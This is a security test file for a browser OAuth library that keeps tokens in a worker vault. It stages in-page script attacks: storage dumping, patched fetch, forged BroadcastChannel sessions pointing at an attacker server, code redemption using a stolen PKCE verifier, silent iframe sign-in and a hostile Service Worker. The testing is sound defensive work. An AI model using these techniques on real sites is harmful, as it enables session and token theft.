// Attacks by script in the page on a session whose tokens are in a worker. Each is really made, against tokens that can be
// searched for; docs/security.md says in words what the table at the end says in short.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { engine } from "../e2e/driver.mjs";
import { serve } from "../provider/serve.mjs";
import { APP, leaveForCallback, openPage, sessionOf, setUpVault, signedInProfile, signedInTab, startedTab, statusOf, until } from "./world.mjs";

const MARKER = "find-me-";
const source = async (name) => ({
  headers: { "content-type": "text/javascript" }, body: await readFile(new URL(name, import.meta.url)),
});
const html = (scripts) => `<!doctype html><html lang="en"><title>app</title>${scripts}<script type="module" src="/harness.js"></script>`;
const page = (body, more = "") => ({
  headers: {
    "content-type": "text/html",
    "content-security-policy": `default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src *; frame-src *${more}`,
  },
  body,
});
const files = {
  "/spy.js": await source("spy.js"),
  "/sw.js": await source("hostile-sw.js"),
  "/ready.html": page(html('<script src="/spy.js"></script>')),
  "/spied.html": page(html('<script src="/spy.js" data-now></script>')),
  // The only worker that may start is the vault.
  get "/strict.html"() {
    return page(html('<script src="/spy.js"></script>'), `; worker-src ${world.host.origin}/pkg/vault.worker.js`);
  },
};

const world = setUpVault({ marker: MARKER }, files);
let evil;
before(async () => {
  evil = await serve(() => ({ body: { access_token: "x", token_type: "Bearer", expires_in: 60 } }), { allowOrigin: () => true });
});
const table = [];
after(async () => {
  await evil.close();
  console.log(`\n${engine}: attack -> what it got\n${table.map(([attack, got]) => `  ${attack.padEnd(76)} ${got}`).join("\n")}`);
});

const options = (changes) => world.options("ok", changes);
const notes = () => `${world.provider.origin}/api/v1/notes`;

/** The tokens of the session that is attacked: those that were issued when it began, and since. */
const tokens = () => world.provider.issued.flatMap(({ access, refresh, idToken }) => [access, refresh, ...idToken.split(".").slice(1)]).filter(Boolean);

/** Notes what an attack got, having looked for tokens in everything that it saw. */
function got(attack, loot, words, secrets = tokens()) {
  const text = typeof loot === "string" ? loot : JSON.stringify(loot) ?? "";
  const found = secrets.filter((secret) => text.includes(secret));
  assert.deepEqual(found, [], `${attack} got tokens`);
  assert.ok(secrets.every((secret) => secret.length > 8) && secrets.length > 0, "there is something to look for");
  table.push([attack, words]);
}

async function attacked(given = options(), path = "/ready.html") {
  world.provider.issued.length = 0;
  const { profile, tab } = await signedInProfile(world, given);
  const other = await startedTab(world, profile, given, path);
  assert.equal(await statusOf(other), "signedIn");
  return { profile, tab, page: other };
}

/** Works the session: a call, a refresh for a 401, what can be asked. */
const work = async (tab) => {
  world.provider.control({ apiRefusals: 1 });
  await tab.evaluate(async (url) => {
    await (await harness.auth.fetch(url, { method: "POST", body: "x" })).text();
    await harness.auth.getUser();
    await harness.outcome(() => harness.auth.getAccessToken());
    harness.auth.inspect();
  }, notes());
};

test("everything that is stored", async () => {
  const { page: tab } = await attacked();
  await work(tab);
  const loot = await tab.evaluate(async () => {
    const databases = {};
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise((resolve) => { indexedDB.open(name).onsuccess = ({ target }) => resolve(target.result); });
      for (const store of database.objectStoreNames) {
        const read = (what) => new Promise((resolve) => {
          database.transaction(store).objectStore(store)[what]().onsuccess = ({ target }) => resolve(target.result);
        });
        databases[`${name}/${store}`] = [await read("getAllKeys"), await read("getAll")];
      }
      database.close();
    }
    const kept = globalThis.caches ? await caches.keys() : [];
    return {
      session: { ...sessionStorage }, local: { ...localStorage }, cookies: document.cookie, databases, kept, name: window.name,
      history: history.state, url: location.href, locks: await navigator.locks.query(), timing: performance.getEntries(),
    };
  });
  got("read sessionStorage, localStorage, cookies, IndexedDB, caches, locks, history", loot, "the hint that somebody is signed in, the count of token sets");
  assert.deepEqual(loot.databases["tokenward/keys"]?.[0] ?? [], [], "no key");
});

test("everything that can be reached from the window", async () => {
  const { page: tab } = await attacked();
  await work(tab);
  const { objects, text } = await tab.evaluate(() => walk());
  assert.ok(objects > 1000, `${objects} objects`);
  got("walk over every object that the window leads to", text, `the claims of the user, as the app (${objects} objects)`);
});

for (const [when, path] of [["before", "/spied.html"], ["after", "/ready.html"]]) {
  test(`patched functions, ${when} the app starts`, async () => {
    const { page: tab } = await attacked(options(), path);
    if (when === "after") await tab.evaluate(() => { spy(); });
    await work(tab);
    await tab.evaluate(() => harness.auth.signOut({ scope: "local" }));
    const loot = await tab.evaluate(() => globalThis.loot.join("\n"));
    assert.ok(loot.includes("mayReceive") || loot.includes(notes()), "the spy saw the traffic");
    got(`patched fetch, Request, Response, MessagePort, SharedWorker, Storage, ... ${when} createAuth`, loot, "the app's own requests and answers");
  });
}

test("listening to every channel, and asking on it", async () => {
  const { page: tab, tab: first } = await attacked();
  const { issuer, clientId } = options();
  const names = [`tokenward.session.${issuer} ${clientId}`, `tokenward.vault.${issuer} ${clientId}`, "tokenward.windows", "tokenward"];
  await tab.evaluate((all) => {
    globalThis.loot = [];
    globalThis.channels = all.map((name) => {
      const channel = new BroadcastChannel(name);
      channel.onmessage = ({ data }) => loot.push(JSON.stringify(data));
      for (const text of ['{"ask":0}', '{"ask":1}', { ask: 0 }]) channel.postMessage(text);
      return channel;
    });
  }, names);
  await work(first);
  await sleep(700);
  got("listen to BroadcastChannels, and ask for tokens on them", await tab.evaluate(() => loot), "nothing");

  // What is forged there is no session either: one as tabs hand it over, with endpoints and an access token of the attacker's.
  const elsewhere = await signedInTab(world, options({ storage: "session" }));
  const stored = await elsewhere.evaluate((name) => sessionStorage.getItem(name), names[0]);
  const forged = stored.replaceAll(/(?<="\w+_(?:endpoint|uri)":")[^"]*/g, evil.origin).replace(/(?<="access_token":")[^"]*/, "forged")
    .replace(/(?<="generation":)\d+/, "99");
  assert.match(forged, /"generation":99.*"access_token":"forged"/);
  world.provider.log.length = 0;
  await tab.evaluate((text) => channels.forEach((channel) => channel.postMessage(text)), forged);
  await sleep(200);
  await work(first);
  assert.deepEqual(evil.log, []);
  assert.deepEqual(world.provider.log.filter(({ headers }) => /forged/.test(headers.authorization)), []);
  assert.ok((await first.evaluate(() => harness.auth.inspect())).generation < 99, "the forged tokens were not taken");
  table.push(["forge a handed-over session on them", "nothing"]);

  await tab.evaluate(() => channels.forEach((channel) => channel.postMessage('{"over":999,"expired":false}')));
  await until("the end of the session", async () => (await statusOf(first)) === "signedOut");
  table.push(["forge the end of the session on them", "the user is signed out"]);
});

test("the lock and the mark that tabs share", async () => {
  const { page: tab, tab: first } = await attacked();
  const { issuer, clientId } = options();
  const name = `tokenward.session.${issuer} ${clientId}`;
  await tab.evaluate((lock) => new Promise((held) => {
    navigator.locks.request(lock, () => new Promise((free) => {
      globalThis.free = free;
      held();
    }));
  }), name);
  world.provider.control({ forgetAccessTokens: true });
  const waiting = first.evaluate((url) => harness.auth.fetch(url).then(({ status }) => status), notes());
  assert.equal(await Promise.race([waiting, sleep(1500, "waits")]), "waits");
  await tab.evaluate(() => { free(); });
  assert.equal(await waiting, 200);
  table.push(["hold the lock that tabs share", "refreshes wait until it is given back"]);

  await tab.evaluate((key) => new Promise((resolve) => {
    indexedDB.open("tokenward").onsuccess = ({ target: { result: database } }) => {
      const transaction = database.transaction("marks", "readwrite");
      transaction.objectStore("marks").put({ generation: 999, over: true }, key);
      transaction.oncomplete = () => { database.close(); resolve(); };
    };
  }), name);
  // The tab in front looks at the mark when it comes back.
  await tab.evaluate(() => { dispatchEvent(new Event("online")); });
  await until("the end of the session", async () => (await statusOf(tab)) === "signedOut");
  table.push(["forge the end of the session in the mark that tabs share", "the user is signed out"]);
});

test("a memory session of the same client asks the other tabs", async () => {
  const { page: tab } = await attacked();
  const outcome = await tab.evaluate(async (given) => {
    const { createAuth } = await import("/pkg/index.js");
    const auth = createAuth(given);
    const { status } = await auth.ready;
    return [status, await harness.outcome(() => auth.getAccessToken())];
  }, options({ storage: "memory", silent: false }));
  assert.equal(outcome[0], "signedOut");
  got("createAuth({ storage: \"memory\" }) beside it, which asks the other tabs", outcome, "nothing");
});

/** A port of the attacker's own to the same worker. */
const connectOwn = (tab, given) => tab.evaluate(async (config) => {
  const { port } = new SharedWorker("/pkg/vault.worker.js", { type: "module", name: "tokenward", extendedLifetime: true });
  globalThis.heard = [];
  let id = 0;
  const waiting = new Map();
  port.onmessage = ({ data }) => {
    heard.push(JSON.stringify(data));
    waiting.get(data.id)?.(data);
  };
  globalThis.intend = (intent, transfer = []) => new Promise((resolve) => {
    id += 1;
    waiting.set(id, resolve);
    port.postMessage({ id, ...intent }, transfer);
    setTimeout(resolve, 5000, { silence: true });
  });
  globalThis.here = (changes) => ({ url: location.href, stored: { ...sessionStorage }, ...changes });
  return intend({ do: "connect", options: config, wasm: new URL("/pkg/tokenward_full_bg.wasm", location.href).href, here: here() });
}, given);

const own = (changes = {}) => {
  const given = options(changes);
  return given;
};

test("an own port to the worker, every intent, with every kind of value", async () => {
  const { page: tab } = await attacked();
  assert.equal((await connectOwn(tab, own())).failure, undefined);
  assert.equal((await tab.evaluate(() => intend({ do: "start", options: {}, here: here() }))).failure, undefined);
  const answer = await tab.evaluate(async (url) => {
    const { port1, port2 } = new MessageChannel();
    const body = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(new TextDecoder().decode(data.bytes)); });
    const said = await intend({ do: "fetch", request: { url, method: "GET", headers: [] }, down: port2 }, [port2]);
    port1.postMessage("next");
    return [said.value?.status, await body];
  }, notes());
  assert.equal(answer[0], 200);
  got("... and a call of a listed API", answer, "the API's answer: whoever runs in the page can call it as the user");

  const loot = await tab.evaluate(async (url) => {
    const intents = ["token", "getAccessToken", "hear", "say", "inspect", "__proto__", "constructor", "toString", "connect", "start", "userinfo", "wake",
      "live", "mayReceive", "fetch", "abort", "visited", undefined, null, 1, {}];
    const values = [undefined, null, "", 0, -1, 1e400, "x", [], {}, { options: {} }, { url }, { url: "javascript:0" }, { here: {} }, { here: { url } },
      { request: { url: "https://evil.example/" } }, { request: { url, headers: [["authorization", "x"]], method: "TRACE" } },
      { options: { minTtlSeconds: 0, force: true } }, { options: { prompt: [1] } }, { visit: 1, outcome: url }, { fetch: {} }, { lock: {} }];
    for (const wish of intents) {
      for (const value of values) {
        if (typeof value === "object" && value !== null && !Array.isArray(value)) intend({ do: wish, ...value });
        else intend({ do: wish, options: value, here: value, url: value, request: value, visit: value, outcome: value, fetch: value, lock: value });
      }
    }
    for (const value of values) intend(Object(value));
    await new Promise((resolve) => { setTimeout(resolve, 1500); });
    return heard.join("\n");
  }, notes());
  assert.match(loot, /vault_refused/);
  assert.match(loot, /signedIn/);
  got("an own port to the worker: every intent with values of every kind", loot, "what the page shows the app: the claims, events");
  assert.equal(await statusOf(tab), "signedIn", "the session goes on");
});

test("an own port with other options, another issuer or another origin", async () => {
  const { page: tab } = await attacked();
  const apis = [evil.origin];
  const swapped = await connectOwn(tab, own({ apis }));
  assert.equal(swapped.failure?.fault?.code, "vault_config_mismatch");
  got("... with apis of the attacker's", swapped, "vault_config_mismatch");

  for (const changes of [{ redirectUri: `${world.host.origin}/else.html` }, { dpop: "auto" }, { userinfo: true }, { storage: "memory" }]) {
    const other = await connectOwn(tab, own(changes));
    assert.equal(other.failure?.fault?.code, "vault_config_mismatch", JSON.stringify(changes));
  }

  const issuer = await connectOwn(tab, own({ issuer: evil.origin, apis }));
  assert.equal(issuer.failure, undefined);
  await tab.evaluate(() => intend({ do: "start", options: {}, here: here() }));
  await sleep(700);
  got("... with an issuer of the attacker's", await tab.evaluate(() => heard), "a session of its own, without tokens");
  assert.deepEqual(evil.log.filter(({ headers, body }) => JSON.stringify([headers, body]).includes(MARKER)), []);
});

test("an own port that says it is a page of another origin, where the page's own is the default", async () => {
  const given = options({ apis: undefined });
  const { page: tab } = await attacked(given);
  const outcome = await tab.evaluate(async (config) => {
    const { port } = new SharedWorker("/pkg/vault.worker.js", { type: "module", name: "tokenward", extendedLifetime: true });
    const answers = [];
    port.onmessage = ({ data }) => answers.push(JSON.stringify(data));
    const wasm = new URL("/pkg/tokenward_full_bg.wasm", location.href).href;
    for (const url of ["https://evil.example/", "https://evil.example@evil.example", "blob:https://evil.example/x", "about:blank", "", null]) {
      port.postMessage({ id: 1, do: "connect", options: config, wasm, here: { url, stored: {} } });
    }
    await new Promise((resolve) => { setTimeout(resolve, 1000); });
    return answers;
  }, given);
  assert.equal(outcome.filter((answer) => answer.includes("failure")).length, 6, outcome.join("\n"));
  got("... that claims to be a page of another origin", outcome, "refused");
});

test("the provider's own endpoints, where the list of APIs has their origin", async () => {
  const given = options({ apis: [world.provider.origin] });
  const { page: tab } = await attacked(given);
  await connectOwn(tab, given);
  await tab.evaluate(() => intend({ do: "start", options: {}, here: here() }));
  world.provider.log.length = 0;
  const refused = await tab.evaluate(async (issuer) => {
    const codes = [];
    for (const path of ["/token", "/revoke", "/authorize", "/end-session", "/token?x", "/token#x", "/../ok/token"]) {
      const { port2 } = new MessageChannel();
      const said = await intend({ do: "fetch", request: { url: issuer + path, method: "POST", headers: [] }, down: port2 }, [port2]);
      codes.push(said.failure?.fault?.code);
    }
    return codes;
  }, given.issuer);
  assert.deepEqual(new Set(refused), new Set(["vault_refused"]));
  assert.deepEqual(world.requestsTo("ok"), []);
  got("fetch through the vault to the token, revocation and other endpoints", refused, "vault_refused");
});

test("a callback made up, with endpoints of the attacker's", async () => {
  const { page: tab } = await attacked();
  await connectOwn(tab, own());
  await tab.evaluate(() => intend({ do: "start", options: {}, here: here() }));
  // The record of a real sign-in, with other endpoints in it.
  const { issuer, clientId, redirectUri } = options();
  evil.log.length = 0;
  const outcome = await tab.evaluate(async ({ evil: to, issuer: iss, clientId: client, redirectUri: back }) => {
    const record = {
      state: "made-up-state", nonce: "n", verifier: "v".repeat(43), client_id: client, redirect_uri: back, scope: "openid", return_to: "/", started: Date.now(),
      issuer: iss, authorization_endpoint: `${to}/authorize`, token_endpoint: `${to}/token`, jwks_uri: `${to}/jwks`, revocation_endpoint: `${to}/revoke`,
      end_session_endpoint: `${to}/end`, userinfo_endpoint: `${to}/userinfo`,
    };
    const stored = { "tokenward.transaction.made-up-state": JSON.stringify(record) };
    const url = `${back}?code=x&state=made-up-state&iss=${encodeURIComponent(iss)}`;
    const answers = [intend({ do: "start", options: {}, here: { url, stored } })];
    for (let i = 0; i < 5; i += 1) {
      await new Promise((resolve) => { setTimeout(resolve, 20); });
      answers.push(intend({ do: "signOut", options: { revoke: true, scope: "provider" }, here: { url, stored } }));
    }
    return [await Promise.all(answers), heard];
  }, { evil: evil.origin, issuer, clientId, redirectUri });
  assert.deepEqual(evil.log.filter(({ method }) => method !== "OPTIONS"), [], "nothing reaches endpoints that are not the provider's");
  got("a made-up callback whose stored sign-in names endpoints of the attacker's", outcome, "nothing but a sign-out");
});

test("another wasm than the package's, for the first page that comes", async () => {
  const profile = await world.newProfile();
  const tab = await profile.newTab();
  await openPage(tab, `${world.host.origin}/ready.html`);
  const code = await tab.evaluate(async (config) => {
    const { port } = new SharedWorker("/pkg/vault.worker.js", { type: "module", name: "tokenward", extendedLifetime: true });
    const said = new Promise((resolve) => { port.onmessage = ({ data }) => data.id && resolve(data); });
    port.postMessage({ id: 1, do: "connect", options: config, wasm: new URL("/pkg/tokenward_bg.wasm", location.href).href, here: { url: location.href, stored: {} } });
    return (await said).failure?.fault?.code;
  }, own());
  assert.equal(code, "wasm_load_failed");
  table.push(["another wasm file for the worker", "refused: its digest is not the one in the worker's file"]);
});

test("the code and the stored sign-in, on the page that a redirect comes back to", async () => {
  world.provider.issued.length = 0;
  const tab = await (await world.newProfile()).newTab();
  await openPage(tab, `${world.host.origin}${APP}`);
  await tab.evaluate((given) => harness.start(given), options());
  await leaveForCallback(tab);
  // The app is not started yet: a script that comes first redeems the code itself, in its place.
  const stolen = await tab.evaluate(async (issuer) => {
    const [record] = Object.values({ ...sessionStorage }).map((text) => JSON.parse(text)).filter(({ verifier }) => verifier);
    const code = new URLSearchParams(location.search).get("code");
    const body = new URLSearchParams({
      grant_type: "authorization_code", code, client_id: record.client_id, redirect_uri: record.redirect_uri, code_verifier: record.verifier,
    });
    return (await fetch(`${issuer}/token`, { method: "POST", body })).json();
  }, options().issuer);
  assert.ok(stolen.access_token.startsWith(MARKER), "the attack works: this is why the security page tells of it");
  table.push(["redeem the code of a redirect before the app does, with the verifier in sessionStorage", "TOKENS, in place of the app's session"]);
  world.provider.incidents.length = 0;
});

test("what a popup brings back", async () => {
  const { page: tab } = await attacked();
  await tab.evaluate(() => {
    globalThis.loot = [];
    new BroadcastChannel("tokenward.windows").onmessage = ({ data }) => loot.push(data.url);
    globalThis.popped = (async () => {
      // Such a click as any script can make where the browser does not mind.
      const answer = await harness.outcome(() => harness.auth.signIn({ mode: "popup" }));
      return [answer.error?.code, harness.session().status];
    })();
  });
  const popped = await tab.evaluate(() => Promise.race([popped, new Promise((resolve) => { setTimeout(resolve, 8000, ["timeout"]); })]));
  const stored = await tab.evaluate(() => JSON.stringify({ ...sessionStorage }));
  assert.equal(stored.includes("verifier"), false, "the verifier stays in the worker");
  got("a popup's or frame's sign-in, watched", [popped, stored, await tab.evaluate(() => loot)], "the code, which is of no use without the verifier");
});

test("a sign-in of the attacker's own, in a frame", async () => {
  const { page: tab } = await attacked();
  const before = tokens();
  const stolen = await tab.evaluate(async ({ issuer, clientId, redirectUri }) => {
    const verifier = "a".repeat(43);
    const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
    const challenge = btoa(String.fromCharCode(...digest)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
    const frame = document.createElement("iframe");
    frame.src = `${issuer}/authorize?${new URLSearchParams({
      response_type: "code", client_id: clientId, redirect_uri: redirectUri, scope: "openid offline_access", prompt: "none",
      code_challenge: challenge, code_challenge_method: "S256", state: "x", nonce: "y",
    })}`;
    document.body.append(frame);
    const code = await new Promise((resolve) => {
      const look = setInterval(() => {
        try {
          const found = new URLSearchParams(frame.contentWindow.location.search).get("code");
          if (!found) return;
          clearInterval(look);
          resolve(found);
        } catch {
          // Still at the provider.
        }
      }, 20);
    });
    const body = new URLSearchParams({ grant_type: "authorization_code", code, client_id: clientId, redirect_uri: redirectUri, code_verifier: verifier });
    return (await fetch(`${issuer}/token`, { method: "POST", body })).json();
  }, options());
  assert.ok(stolen.access_token.startsWith(MARKER), "the attack works: this is why the security page tells of it");
  got("an own sign-in with prompt=none in a frame, where the provider lets itself be framed", stolen, "TOKENS of its own, none of the session's", before);
});

test("an API that says what it was sent", async () => {
  const { page: tab } = await attacked(options({ apis: [`${world.api.origin}`] }));
  const text = await tab.evaluate((url) => harness.auth.fetch(url).then((response) => response.text()), `${world.api.origin}/headers`);
  assert.ok(tokens().some((secret) => text.includes(secret)), "the attack works: this is why the security page tells of it");
  table.push(["an API (or its error page) that repeats the Authorization header", "THE ACCESS TOKEN"]);
});

/** What a Service Worker of the attacker's saw. */
const seenBySw = (tab) => tab.evaluate(async () => {
  const { port1, port2 } = new MessageChannel();
  const { active } = await navigator.serviceWorker.ready;
  active.postMessage(null, [port2]);
  return new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); });
});

test("a Service Worker, where the origin serves a script of the attacker's", async () => {
  const { page: tab } = await attacked();
  await tab.evaluate(async () => {
    await navigator.serviceWorker.register("/sw.js", { scope: "/" });
    await navigator.serviceWorker.ready;
  });
  await sleep(300);
  const secrets = tokens();
  const tells = (seen) => secrets.concat(tokens()).some((secret) => JSON.stringify(seen).includes(secret));
  await work(tab);
  const atOnce = tells(await seenBySw(tab));
  table.push(["a Service Worker registered while the vault runs (clients.claim)", atOnce ? "THE TOKENS of each request" : "nothing"]);
});

test("a Service Worker, where the policy names the one worker that may start", async () => {
  const { page: tab } = await attacked(options(), "/strict.html");
  const outcome = await tab.evaluate(() => harness.outcome(() => navigator.serviceWorker.register("/sw.js", { scope: "/" }).then(() => {})));
  table.push(["... under worker-src with the full URL of vault.worker.js", outcome.error ? `refused (${outcome.error.name})` : "registered"]);
  assert.ok(outcome.error, "registration is refused");
  await work(tab);
});
